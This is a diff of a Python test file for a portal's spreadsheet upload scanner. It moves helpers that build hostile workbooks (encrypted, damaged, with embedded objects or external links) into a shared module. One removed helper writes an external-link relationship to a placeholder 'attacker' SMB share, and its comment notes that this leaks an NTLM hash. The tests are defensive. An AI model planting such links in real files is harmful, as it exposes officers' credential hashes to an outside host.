@@ -5,10 +5,7 @@ cell where known, and nothing saved: read directly, and uploaded through the web
 from __future__ import annotations
 
 import io
-import re
-from collections.abc import Callable
 
-import openpyxl
 import pytest
 from markupsafe import escape
 from sqlalchemy import func, select
@@ -20,136 +17,33 @@ from dp_portal.monitoring.models import MonitoringReturn
 from ..conftest import sign_in_as
 from ..hostile_files import (
     PDF,
+    build_zip,
     compound_file,
     duplicate_part,
-    edit_parts,
     encrypted_workbook,
     flag_encrypted,
     zip_parts,
 )
-from .test_return_spreadsheets import CORPUS, END, REF, START, read, rewrite_sheet, template
+from ..hostile_workbooks import (
+    MAIN,
+    cell,
+    external_link,
+    shared_strings,
+    sheet_xml,
+    strict_open_xml,
+    swap_rows,
+    with_openpyxl,
+    without,
+)
+from .test_return_spreadsheets import CORPUS, END, REF, START, read, template
 
-MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+# Building and reading these files makes zipfile and openpyxl warn, as they should.
+pytestmark = pytest.mark.filterwarnings(
+    "ignore:Duplicate name:UserWarning", "ignore:Cell .* is marked as a date:UserWarning"
+)
+
+
 SAVE_AGAIN = "save the workbook again as .xlsx and upload it again"
-
-
-def cell(ref: str, xml: str) -> Callable[[], bytes]:
-    """The template with one cell's XML replaced."""
-
-    def change(sheet: str) -> str:
-        return re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', lambda _: xml, sheet, count=1)
-
-    return lambda: rewrite_sheet(template(), change)
-
-
-def sheet_xml(change: Callable[[str], str]) -> Callable[[], bytes]:
-    return lambda: rewrite_sheet(template(), change)
-
-
-def with_openpyxl(change: Callable) -> Callable[[], bytes]:
-    """The template changed by a spreadsheet library, as a person's program would save it."""
-
-    def make() -> bytes:
-        book = openpyxl.load_workbook(io.BytesIO(template()))
-        change(book["Return"])
-        out = io.BytesIO()
-        book.save(out)
-        return out.getvalue()
-
-    return make
-
-
-def shared_strings(b2_index: str) -> bytes:
-    """The template with a shared-strings part (as Excel writes text), B2 pointing into it."""
-    sst = (
-        f'<sst xmlns="{MAIN}" count="2" uniqueCount="2">'
-        f"<si><t>{REF}</t></si><si><t>spare</t></si></sst>"
-    )
-    data = rewrite_sheet(
-        template(),
-        lambda x: re.sub(
-            r'<c r="B2"[^>]*?>.*?</c>', f'<c r="B2" t="s"><v>{b2_index}</v></c>', x, count=1
-        ),
-    )
-    parts = zip_parts(data)
-    parts["xl/sharedStrings.xml"] = sst.encode()
-    parts["[Content_Types].xml"] = (
-        parts["[Content_Types].xml"]
-        .decode()
-        .replace(
-            "</Types>",
-            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
-            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
-        )
-        .encode()
-    )
-    parts["xl/_rels/workbook.xml.rels"] = (
-        parts["xl/_rels/workbook.xml.rels"]
-        .decode()
-        .replace(
-            "</Relationships>",
-            f'<Relationship Type="{RELS}/sharedStrings" Target="sharedStrings.xml" Id="rId9"/>'
-            "</Relationships>",
-        )
-        .encode()
-    )
-    return _zip(parts)
-
-
-def _zip(parts: dict[str, bytes]) -> bytes:
-    from ..hostile_files import build_zip
-
-    return build_zip(parts)
-
-
-def external_link(formula: str | None) -> bytes:
-    """A workbook whose formulas reach into another workbook (an NTLM hash leaks the moment
-    an officer's Excel follows a \\\\server\\share link)."""
-    data = template()
-    if formula:
-        data = rewrite_sheet(
-            data,
-            lambda x: re.sub(
-                r'<c r="B12"([^>]*?)/>', rf'<c r="B12"\1><f>{formula}</f><v>75</v></c>', x, count=1
-            ),
-        )
-    parts = zip_parts(data)
-    parts["xl/externalLinks/externalLink1.xml"] = (
-        f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><externalBook r:id="rId1">'
-        '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
-    ).encode()
-    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="rId1" Type="{RELS}/externalLinkPath" '
-        'Target="file:///\\\\attacker\\share\\Book1.xlsx" TargetMode="External"/></Relationships>'
-    ).encode()
-    return _zip(parts)
-
-
-def strict_open_xml() -> bytes:
-    """What Excel writes for "Strict Open XML Spreadsheet": the same parts, other namespaces."""
-
-    def strict(text: str) -> str:
-        return text.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
-            RELS, "http://purl.oclc.org/ooxml/officeDocument/relationships"
-        )
-
-    parts = ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels")
-    return edit_parts(template(), dict.fromkeys(parts, strict))
-
-
-def _without(name: str) -> bytes:
-    parts = zip_parts(template())
-    del parts[name]
-    return _zip(parts)
-
-
-def _swap_rows(xml: str) -> str:
-    row7 = re.search(r'<row r="7".*?</row>', xml)[0]
-    row12 = re.search(r'<row r="12".*?</row>', xml)[0]
-    return xml.replace(row7, "\0").replace(row12, row7).replace("\0", row12)
-
 
 HOSTILE = [
     # (case, file, message the reader gives)
@@ -246,7 +140,7 @@ HOSTILE = [
     ),
     (
         "rows out of order (openpyxl drops the late one)",
-        sheet_xml(_swap_rows),
+        sheet_xml(swap_rows),
         "Sheet Return: the rows are stored out of order (row 8 after row 12)",
     ),
     (
@@ -266,7 +160,7 @@ HOSTILE = [
     ),
     (
         "the sheet's part is missing",
-        lambda: _without("xl/worksheets/sheet1.xml"),
+        lambda: without("xl/worksheets/sheet1.xml"),
         "Sheet Return: The workbook is damaged: this sheet is missing",
     ),
     ("an empty file", lambda: b"", "The file is empty"),
@@ -319,7 +213,7 @@ HOSTILE = [
     ),
     (
         "an embedded object",
-        lambda: _zip(zip_parts(template()) | {"xl/embeddings/oleObject1.bin": b"\0" * 64}),
+        lambda: build_zip(zip_parts(template()) | {"xl/embeddings/oleObject1.bin": b"\0" * 64}),
         "The workbook contains embedded objects or controls",
     ),
     (
@@ -338,9 +232,12 @@ def test_hostile_workbooks_are_refused_naming_sheet_and_cell(case, make, message
 
 
 def test_what_the_scan_lets_through_is_read_as_before():
-    # Text kept as shared strings, as Excel writes it, and merged cells away from the figures.
+    # Text kept as shared strings, as Excel writes it, merged cells away from the figures, and
+    # a formula whose saved result is empty text.
     assert read(shared_strings("0"))["opening"] == 100
     assert read(with_openpyxl(lambda sheet: sheet.merge_cells("A5:C5"))())["council_payments"]
+    blank = cell("B12", '<c r="B12" t="str"><f>IF(B7&gt;0,"",1)</f><v></v></c>')
+    assert read(blank())["spend_pa_wages"] == 0
 
 
 # Through the web: the upload rules speak first about what the file is, then the reader.
